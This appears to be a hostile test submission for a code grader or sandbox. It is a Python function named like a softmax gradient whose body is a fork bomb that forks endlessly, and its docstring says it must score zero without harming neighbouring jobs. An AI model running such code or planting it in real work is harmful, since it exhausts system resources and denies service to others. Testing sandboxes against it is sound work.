"""Forks without end; must get 0, and its neighbours lose nothing."""

import os


def my_softmax_gradient(z, y):
    while True:
        try:
            os.fork()
        except OSError:
            continue
